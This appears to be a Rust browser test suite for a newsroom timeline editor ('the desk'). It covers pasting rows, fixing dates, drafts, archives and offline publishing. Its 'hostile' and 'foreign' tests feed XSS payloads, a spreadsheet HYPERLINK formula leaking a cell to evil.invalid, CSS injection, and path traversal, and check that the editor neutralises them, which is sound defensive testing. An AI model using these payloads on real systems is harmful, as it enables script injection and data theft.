//! The desk, as an editor without a command line uses it.

use crate::engine::Engine;
use crate::page::Page;
use crate::scenario::{Failure, Scenario, UNWATCHED};
use anyhow::{Context as _, ensure};
use backstory::desk::archive;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

mod grid;
mod panels;

const DESK: &str = "/dist/desk.html";

pub const SCENARIOS: &[Scenario] = &[
    Scenario::new("desk: pasted, mended, archived, published, shown", DESK, ten_minutes),
    Scenario::new("desk: an archive is opened again and goes on", DESK, reopened),
    Scenario::new("desk: a long import tells its rows and can be cancelled", "/slow/desk.html", cancelled),
    Scenario::new("desk: the columns of a file are shown and can be set otherwise", DESK, columns),
    Scenario::new("desk: the grid is moved in, typed into and taken back by keys", DESK, grid::keys),
    Scenario::new("desk: cells are copied and pasted as a spreadsheet has them", DESK, grid::cells),
    Scenario::new("desk: 5,000 rows scroll and are typed into with few elements", DESK, grid::many),
    Scenario::new("desk: hostile cells stay words", DESK, hostile),
    Scenario::new("desk: a reload finds the draft, and it can be forgotten", DESK, draft),
    Scenario::new("desk: an edit made while a draft is written is not said to be kept", DESK, edit_while_writing),
    Scenario::new("desk: once loaded it publishes without a network", DESK, offline).only_in(&[Engine::Chromium]),
    Scenario::new("desk: an article is read for its terms", DESK, article),
    Scenario::new("desk: every panel serves wide and narrow windows, light and dark", DESK, panels::all),
];

/// Rows as a spreadsheet puts them on the clipboard: one date in words, one with two readings.
const ROWS: &str = "Date\tHeadline\tSummary\n2021-03-23\tA ship runs aground\tIt blocks the canal.\n\
                    29 March 2021\tThe ship floats again\t\n04/05/2021\tAn inquiry opens\tIt hears the pilots.";

/// Puts rows into the field and takes them.
fn begin(page: &Page, rows: &str) -> Result<(), Failure> {
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    page.script(&format!("find('#paste').value = {};", json!(rows)))?;
    page.click("#use-rows")?;
    page.wait_for("find('#panel-events .grid') && find('#problem-count').textContent", "the story is checked")
}

/// Waits until what the desk shows is of the story as it is.
fn checked(page: &Page, count: &str) -> Result<(), Failure> {
    page.wait_for(&format!("find('#problem-count').textContent === {}", json!(count)), "the check says so")
}

/// The text of a cell of the events' grid, counted from 0.
fn cell(page: &Page, row: usize, column: usize) -> Result<String, Failure> {
    page.eval(&format!("find('#panel-events [data-row=\"{row}\"] [data-column=\"{column}\"]')?.textContent ?? ''"))
}

/// Makes the archive and gives its bytes.
fn made(page: &Page) -> Result<Vec<u8>, Failure> {
    page.script(
        "window.made = undefined;
         const create = URL.createObjectURL;
         URL.createObjectURL = (blob) => { window.made = blob; return create.call(URL, blob); };",
    )?;
    page.click("#make-zip")?;
    page.wait_for("window.made || find('#publish-error').textContent", "the archive is made")?;
    let fault = page.text("#publish-error")?;
    ensure!(fault.is_empty(), "{fault}");
    let base64: String = page.eval(
        "new Promise((done) => {
           const reader = new FileReader();
           reader.onload = () => done(reader.result.split(',')[1]);
           reader.readAsDataURL(window.made);
         })",
    )?;
    Ok(STANDARD.decode(base64)?)
}

fn ten_minutes(page: &mut Page) -> Result<(), Failure> {
    begin(page, ROWS)?;
    checked(page, "2 errors").context("a date with two readings and the title")?;
    page.wait_for("find('#preview-page back-story >>> .row')", "the good rows are seen at once")?;
    page.wait_for("find('#preview-note').textContent.startsWith('Without 1 event')", "the other is counted")?;

    let problems = page.text("#problem-list")?;
    for words in
        ["“04/05/2021” can be read as two dates. Write 2021-05-04, or", "The story has no title. Fill in “Title”."]
    {
        ensure!(problems.contains(words), "no “{words}” in {problems}");
    }
    // A problem leads to its cell.
    page.script("[...document.querySelectorAll('.where')].find((it) => /^Event 3/.test(it.textContent)).click();")?;
    page.wait_for("document.activeElement.matches('[data-row=\"2\"] [data-column=\"0\"]')", "the cell has the focus")?;
    let invalid = "find('#panel-events [data-row=\"2\"] [data-column=\"0\"]').getAttribute('aria-invalid')";
    ensure!(page.eval::<String>(invalid)? == "true");

    // It has two readings.
    let mend = |label: &str| {
        let found = format!("[...document.querySelectorAll('.mend')].find((it) => it.textContent === 'Write {label}')");
        page.wait_for(&found, "the mend is offered")?;
        page.script(&format!("{found}.click();"))
    };
    mend("2021-05-04")?;
    page.click("#tab-story")?;
    page.click("#panel-story input")?;
    page.type_text("The ship in the canal")?;
    checked(page, "nothing to mend")?;
    page.wait_for("find('#preview-page back-story >>> h2')?.textContent === 'The ship in the canal'", "it is shown")?;

    look(page)?;
    page.click("#to-publish")?;
    page.click("#base")?;
    page.type_text("https://news.example/ship")?;
    page.wait_for(
        "find('#snippets').textContent.includes(\"script-src https://news.example 'wasm-unsafe-eval'\")",
        "the snippet has its policy",
    )?;
    page.script("find('#ways [name=pinned]').click();")?;
    let files = archive::files(&made(page)?).map_err(Failure::msg)?;
    published(&files)?;
    let story = files.iter().find(|(name, _)| name == "story.json").map(|(_, bytes)| bytes.as_slice());
    let story: serde_json::Value = serde_json::from_slice(story.unwrap_or_default())?;
    ensure!(story["id"] == "the-ship-in-the-canal" && story["events"][1]["id"] == "the-ship-floats-again", "{story}");
    for (name, bytes) in files {
        if let Some(name) = name.strip_prefix("backstory/").filter(|name| !name.contains('/')) {
            ensure!(!String::from_utf8_lossy(&bytes).contains("Massimov"), "{name} holds another story");
            // Their policies are the publication's own, and let no collector in.
            let text = String::from_utf8(bytes);
            let bytes = match text {
                Ok(text) => text.replacen("<head>", &["<head>", UNWATCHED].concat(), 1).into_bytes(),
                Err(bytes) => bytes.into_bytes(),
            };
            page.publish(name, bytes);
        }
    }
    page.open("/made/embed.html")?;
    page.wait_for("find('back-story >>> .row')", "the published frame shows the widget")?;
    ensure!(
        page.eval::<String>("find('back-story >>> h1')?.textContent ?? find('back-story >>> h2').textContent")?
            == "The ship in the canal"
    );
    page.open("/made/story.html")?;
    ensure!(page.eval::<bool>("document.body.textContent.includes('It hears the pilots.')")?);
    Ok(())
}

/// Chooses a theme and a width, which the preview wears at once.
fn look(page: &Page) -> Result<(), Failure> {
    let accent = "getComputedStyle(find('#preview-page back-story')).getPropertyValue('--backstory-radius')";
    page.click("#tab-look")?;
    for (name, value) in [("sheet", "newsprint"), ("max-inline", "42rem")] {
        page.script(&format!(
            "const field = find('#look [name={name}]');
             field.value = '{value}';
             field.dispatchEvent(new Event('input', {{ bubbles: true }}));"
        ))?;
    }
    page.wait_for(&format!("{accent}.trim() === '0'"), "the preview wears the theme")?;
    let width: String =
        page.eval("find('#preview-page back-story').style.getPropertyValue('--backstory-max-inline').trim()")?;
    ensure!(width == "42rem", "{width}");
    Ok(())
}

/// The archive has what an editor needs, and what was chosen is in it.
fn published(files: &[(String, Vec<u8>)]) -> Result<(), Failure> {
    let names: Vec<&str> = files.iter().map(|(name, _)| name.as_str()).collect();
    let file = |wanted: &str| {
        let found = files.iter().find(|(name, _)| name == wanted);
        found.map(|(_, bytes)| bytes.as_slice()).with_context(|| format!("{wanted} is missing of {names:?}"))
    };
    for wanted in ["story.json", "story.bks", "digest.html", "desk.json", "read-me.txt"] {
        file(wanted)?;
    }
    let element = String::from_utf8_lossy(file("snippets/element.txt")?).into_owned();
    for line in [
        "<link rel=\"stylesheet\" href=\"https://news.example/ship/themes/newsprint.css\">",
        "--backstory-max-inline: 42rem;",
        "integrity=\"sha384-",
    ] {
        ensure!(element.contains(line), "no {line} in {element}");
    }
    file("backstory/themes/newsprint.css")?;
    // A PNG of 1200 by 630 (PNG specification, § 11.2.1), and the pages name it.
    let picture = file("backstory/social.png")?;
    let size = picture.get(16..24).unwrap_or_default();
    ensure!(picture.starts_with(b"\x89PNG") && size == [0, 0, 4, 176, 0, 0, 2, 118], "{size:?}");
    let page = String::from_utf8_lossy(file("backstory/story.html")?);
    ensure!(page.contains("content=\"https://news.example/ship/social.png\""), "the story page names no picture");
    Ok(())
}

fn reopened(page: &mut Page) -> Result<(), Failure> {
    begin(page, "1932\tThe footbridge opens\n2024\tIt closes")?;
    page.click("#tab-story")?;
    page.click("#panel-story input")?;
    page.type_text("A bridge")?;
    checked(page, "nothing to mend")?;
    page.click("#tab-look")?;
    page.script("find('#look [name=theme][value=dark]').click();")?;
    page.click("#to-publish")?;
    // What is under way can be stopped, and begun again.
    page.script("find('#make-zip').click(); find('#stop-making').click();")?;
    page.wait_for("find('#said').textContent === 'Cancelled. Nothing was made.'", "it is stopped")?;
    page.wait_for("!find('#make-zip').disabled", "it can be made")?;
    let zip = made(page)?;
    page.publish("a.zip", zip);
    page.open(DESK)?;
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    page.script(
        "const bytes = await (await fetch('/made/a.zip')).arrayBuffer();
         const chosen = new DataTransfer();
         chosen.items.add(new File([bytes], 'a.zip'));
         chosen.items.add(new File(['x'], 'b.png'));
         find('#file').files = chosen.files;
         find('#file').dispatchEvent(new Event('change'));",
    )?;
    page.wait_for("find('#story-title').textContent === 'A bridge'", "the story is open")?;
    page.wait_for("find('#said').textContent.startsWith('Of 2 files “a.zip” is open.')", "it says what it left")?;
    checked(page, "nothing to mend")?;
    page.click("#tab-look")?;
    ensure!(page.eval::<bool>("find('#look [name=theme][value=dark]').checked")?, "the look is kept");

    // What is no story is refused in words, and what was open stays.
    for (name, bytes, says) in [("b.zip", "'PK\\x03\\x04junk'", "damaged"), ("c.json", "'{\"title\": '", "not JSON")] {
        page.script(&format!(
            "const chosen = new DataTransfer();
             chosen.items.add(new File([{bytes}], '{name}'));
             find('#file').files = chosen.files;
             find('#file').dispatchEvent(new Event('change'));"
        ))?;
        page.wait_for(&format!("find('#said').textContent.includes('{says}')"), "it is refused in words")?;
    }
    ensure!(page.text("#story-title")? == "A bridge");
    Ok(())
}

/// The server is slow, so that the import takes longer than a second on any machine.
fn cancelled(page: &mut Page) -> Result<(), Failure> {
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    page.script(
        "window.told = [];
         window.observer = new MutationObserver(() => {
           if (!find('#read-rows').textContent) return;
           window.told.push(find('#read-rows').textContent, find('#reading').hidden);
           find('#stop').click();
         });
         window.observer.observe(find('#read-rows'), { childList: true });
         const rows = Array.from({ length: 60_000 }, (_, at) => `${1600 + (at % 400)},Event ${at}\\n`);
         const chosen = new DataTransfer();
         chosen.items.add(new File(['Date,Headline\\n', ...rows], 'a.csv'));
         find('#file').files = chosen.files;
         find('#file').dispatchEvent(new Event('change'));",
    )?;
    page.wait_for("window.told.length && find('#reading').hidden", "it is told how far it is, and it ends")?;
    let [told, hidden]: [serde_json::Value; 2] = page.eval("window.told.slice(0, 2)")?;
    let is_count = |words: &str| words.starts_with(|first: char| first.is_ascii_digit()) && words.contains(" rows");
    ensure!(told.as_str().is_some_and(is_count) && hidden == false, "{told}, hidden: {hidden}");
    ensure!(
        page.eval::<bool>("document.body.dataset.state !== 'work' && !find('#begin-error').textContent")?,
        "something opened"
    );
    page.script(
        "window.observer.disconnect();
         const chosen = new DataTransfer();
         chosen.items.add(new File(['neither a table nor a story'], 'a.zip'));
         find('#file').files = chosen.files;
         find('#file').dispatchEvent(new Event('change'));",
    )?;
    page.wait_for("find('#begin-error').textContent.length > 20", "the file is refused")?;
    panels::serves(page, panels::LOOKS[0], "a refused file")?;
    // The next import begins anew.
    begin(page, "1932\tThe footbridge opens")?;
    ensure!(cell(page, 0, 1)? == "The footbridge opens");
    Ok(())
}

fn columns(page: &mut Page) -> Result<(), Failure> {
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    page.script(
        "const chosen = new DataTransfer();
         chosen.items.add(new File(['When,What,Where\\n2021,One,North\\n2022,Two,South\\nsoon,Three,South\\n'], 'a.csv'));
         find('#file').files = chosen.files;
         find('#file').dispatchEvent(new Event('change'));",
    )?;
    page.wait_for("find('#import-report summary')", "the report is there")?;
    ensure!(
        page.text("#import-report summary")?.starts_with("2 events from 3 rows: 1 row not read"),
        "{}",
        page.text("#import-report summary")?
    );
    page.script(
        "find('#import-report').open = true;
         const select = find('#import-report select[data-column=C]');
         select.value = 'group';
         select.dispatchEvent(new Event('change'));",
    )?;
    page.wait_for("find('#import-report select[data-column=C]')?.value === 'group'", "the column is a lane now")?;
    page.wait_for(
        "find('#panel-events [data-row=\"1\"] [data-column=\"4\"]').textContent === 'South'",
        "the grid has it",
    )?;
    page.assert_accessible("")
}

fn hostile(page: &mut Page) -> Result<(), Failure> {
    let rows = "Date\tHeadline\tSummary\tSource\n\
                2021\t<img src=x onerror=\"window.hit=1\"><script>window.hit=1</script>\t\
                [x](javascript:window.hit=1) [[nobody]] <svg onload=window.hit=1>\tjavascript:window.hit=1\n\
                2022\t=HYPERLINK(\"https://evil.invalid/?\"&A1)\t\u{202e}reversed\thttps://evil.invalid/a\n\
                2023\tconstructor\t__proto__\t__proto__";
    begin(page, rows)?;
    page.wait_for("find('#problem-count').textContent.includes('error')", "it is checked")?;
    for tab in ["terms", "sources", "questions", "story", "publish", "events"] {
        page.click(&format!("#tab-{tab}"))?;
    }
    page.script("find('#preview-kind [value=digest]').click();")?;
    ensure!(page.eval::<bool>("window.hit === undefined")?, "a cell was run");
    ensure!(page.eval::<bool>("!find('main img, main script, main svg, main [onerror], a[href^=\"javascript\"]')")?);
    let headlines = [cell(page, 0, 1)?, cell(page, 1, 1)?, cell(page, 2, 1)?];
    foreign(page)?;
    ensure!(headlines.iter().any(|words| words == "constructor"), "{headlines:?}");
    ensure!(headlines.iter().any(|words| words.contains("=HYPERLINK(")), "{headlines:?}");
    Ok(())
}

/// Choices of somebody's archive go into what editors paste: what the form does not offer is its default.
fn foreign(page: &Page) -> Result<(), Failure> {
    let text = |name: &str, value: serde_json::Value| (name.to_owned(), value.to_string().into_bytes());
    let evil = "red; } body { background: url(//evil.invalid/) } a {";
    let choices = json!({ "view": "voices", "accent": evil, "font": evil, "max-inline": evil, "theme": evil, "sheet": "../../x",
                          "entry": "event:\"><script>", "base": "https://a.example/\"><script>", "toString": "x" });
    let story = json!({ "lang": "en", "title": "Another", "evidence": "none", "events": [{ "date": "2022", "headline": "One" }] });
    let zip = archive::archive(&[text("story.json", story), text("desk.json", choices)]).map_err(Failure::msg)?;
    page.script(&format!(
        "const bytes = Uint8Array.from(atob({}), (letter) => letter.charCodeAt(0));
         const chosen = new DataTransfer();
         chosen.items.add(new File([bytes], 'a.zip'));
         find('#file').files = chosen.files;
         find('#file').dispatchEvent(new Event('change'));",
        json!(STANDARD.encode(zip))
    ))?;
    page.wait_for("find('#story-title').textContent === 'Another'", "the archive is open")?;
    page.click("#to-publish")?;
    page.wait_for("find('#snippets').textContent.includes('view=\"voices\"')", "a choice that there is holds")?;
    let shown = page.text("#snippets")?;
    ensure!(!shown.contains("evil") && !shown.contains("/x.css") && !shown.contains("a.example"), "{shown}");
    Ok(())
}

/// Where the button stands that takes pasted rows, in a wide and in a narrow window, once the browser has said whether it keeps a
/// draft.
fn places(page: &Page) -> Result<[String; 2], Failure> {
    page.wait_for("document.body.dataset.draft", "the browser has said whether it keeps a draft")?;
    let mut places = [String::new(), String::new()];
    for (place, (width, height)) in places.iter_mut().zip([(360, 740), (1280, 900)]) {
        page.size(width, height)?;
        *place = page.eval("JSON.stringify(find('#use-rows').getBoundingClientRect())")?;
    }
    Ok(places)
}

fn draft(page: &mut Page) -> Result<(), Failure> {
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    let without = places(page)?;
    begin(page, "1932\tThe footbridge opens\n2024\tIt closes")?;
    page.click("#panel-events [data-row='1'] [data-column='1']")?;
    page.type_text("It is closed")?;
    page.press("Enter")?;
    page.wait_for("find('#kept').textContent === 'Draft kept in this browser'", "the draft is kept")?;
    page.open(DESK)?;
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    let with = places(page)?;
    ensure!(
        page.text("#last")?.starts_with("“Untitled”")
            && page.eval::<bool>("find('#continue').checkVisibility({ visibilityProperty: true })")?
    );
    ensure!(with == without, "the offer of a draft moves the button from {without:?} to {with:?}");
    page.click("#continue")?;
    page.wait_for("find('#panel-events [data-row=\"1\"]')", "the draft is open")?;
    ensure!(cell(page, 1, 1)? == "It is closed");
    // The button stays where it is, whatever comes in above it: WebKit's driver clicks where it was.
    let place = "JSON.stringify(find('#forget').getBoundingClientRect())";
    let before: String = page.eval(place)?;
    page.wait_for("find('#preview-page back-story >>> .row')", "the preview has come in")?;
    checked(page, "1 error")?;
    ensure!(page.eval::<String>(place)? == before, "the button moved from {before}");
    page.click("#forget")?;
    page.wait_for("find('#kept').textContent === 'Not kept in this browser'", "it is forgotten")?;
    page.click("#keep")?;
    page.wait_for("find('#keep').ariaBusy === 'false'", "the choice is kept")?;
    page.click("#panel-events [data-row='1'] [data-column='1']")?;
    page.type_text("Nobody keeps this")?;
    page.press("Enter")?;
    // An archive in the editor's hands: nothing asks before the page is left.
    page.click("#to-publish")?;
    page.click("#save-json")?;
    page.open(DESK)?;
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    page.wait_for("document.body.dataset.draft === 'none'", "no draft is found")?;
    ensure!(
        page.eval::<bool>(
            "!find('#continue').checkVisibility({ visibilityProperty: true }) && !find('#keep').checked"
        )?,
        "nothing was kept"
    );
    page.click("#keep")?;
    Ok(())
}

/// Keeps the first write of a draft from ending until `window.released`, and notes how many were written when one is said to be.
const SLOW_WRITE: &str = "
    window.written = 0;
    window.said = [];
    const put = IDBObjectStore.prototype.put;
    IDBObjectStore.prototype.put = function (...given) {
      const request = put.apply(this, given);
      request.addEventListener('success', () => (window.written += 1));
      const wait = () => { if (!window.released) this.count().onsuccess = wait; };
      wait();
      return request;
    };
    new MutationObserver(() => {
      if (find('#kept').textContent === 'Draft kept in this browser') window.said.push(window.written);
    }).observe(find('#kept'), { childList: true });";

fn edit_while_writing(page: &mut Page) -> Result<(), Failure> {
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    page.script(SLOW_WRITE)?;
    begin(page, "1932\tThe footbridge opens\n2024\tIt closes")?;
    page.wait_for("window.written === 1", "the first draft is being written")?;
    page.click("#panel-events [data-row='1'] [data-column='1']")?;
    page.type_text("It is closed")?;
    page.press("Enter")?;
    page.script("window.released = true;")?;
    page.wait_for("window.said.length", "a draft is kept")?;
    let said: Vec<u32> = page.eval("window.said")?;
    ensure!(said == [2], "a draft was said to be kept after so many writes of 2: {said:?}");
    page.click("#forget")?;
    page.wait_for("find('#kept').textContent === 'Not kept in this browser'", "it is forgotten")
}

fn offline(page: &mut Page) -> Result<(), Failure> {
    begin(page, "1932\tThe footbridge opens")?;
    page.wait_for("find('#preview-page back-story >>> .row')", "the preview stands")?;
    page.wait_for_answer("types/vue.d.ts")?;
    page.wait_for(
        "performance.getEntriesByType('resource').some((it) => it.name.endsWith('types/vue.d.ts'))",
        "it is here",
    )?;
    let zip = page.without_network(|| {
        page.click("#tab-story")?;
        page.click("#panel-story input")?;
        page.type_text("Without a network")?;
        checked(page, "nothing to mend")?;
        page.click("#to-publish")?;
        made(page)
    })?;
    ensure!(archive::open(&zip).map_err(Failure::msg)?.story.contains("Without a network"));
    Ok(())
}

fn article(page: &mut Page) -> Result<(), Failure> {
    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
    page.click("#begin-template")?;
    checked(page, "nothing to mend")?;
    page.click("#tab-article")?;
    page.click("#article-text")?;
    page.type_text("The footbridge is shut. A footbridge!")?;
    page.wait_for("find('#article-read mark')", "the term is found")?;
    ensure!(page.eval::<usize>("document.querySelectorAll('#article-read mark').length")? == 2);
    ensure!(page.text("#article-found")?.contains("footbridge (2)"), "{}", page.text("#article-found")?);
    Ok(())
}
